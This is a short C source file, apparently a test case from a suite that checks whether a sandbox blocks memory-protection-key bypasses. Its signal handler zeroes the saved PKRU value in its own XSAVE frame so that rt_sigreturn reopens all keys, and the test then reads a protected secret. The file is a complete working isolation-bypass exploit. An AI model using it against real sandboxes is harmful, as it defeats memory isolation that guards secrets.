/* SPDX-License-Identifier: MIT */
/* atk_sigreturn.c: untrusted code edits the saved PKRU in its own signal
 * frame (the XSAVE area rt_sigreturn restores from) to 0 = all keys open,
 * returns from the handler and reads the secret.  Needs protection keys. */
#include <ucontext.h>

#include "atk_common.h"

static uint32_t pkru_off;
static volatile uint8_t sink;

static void handler(int sig, siginfo_t *si, void *ucv)
{
	ucontext_t *uc = ucv;
	uint8_t *xs = (uint8_t *)uc->uc_mcontext.fpregs;
	uint64_t bv;

	(void)sig;
	(void)si;
	memcpy(&bv, xs + 512, 8);
	bv |= 1ull << 9;                 /* PKRU present in the frame */
	memcpy(xs + 512, &bv, 8);
	memset(xs + pkru_off, 0, 4);     /* PKRU = 0 */
}

static void read_secret(void *arg)
{
	(void)arg;
	sink = atk_secret[0];
}

static enum atk_result atk_attack(void)
{
	struct sigaction sa;
	uint32_t a, b, c, d;

	__asm__ volatile("cpuid" : "=a"(a), "=b"(b), "=c"(c), "=d"(d) : "a"(0xd), "c"(9));
	pkru_off = b;
	memset(&sa, 0, sizeof sa);
	sa.sa_sigaction = handler;
	sa.sa_flags = SA_SIGINFO;
	sigaction(SIGUSR1, &sa, NULL);
	raise(SIGUSR1);
	atk_say("PKRU after the handler returned: 0x%08x", atk_rdpkru());
	if (!atk_faults(read_secret, NULL)) {
		atk_say("read the secret after the forged return");
		return ATK_SUCCEEDED;
	}
	atk_say("reading the secret faulted");
	return ATK_REFUSED;
}

static const char *atk_name = "atk_sigreturn";
static int atk_needs_pku = 1;
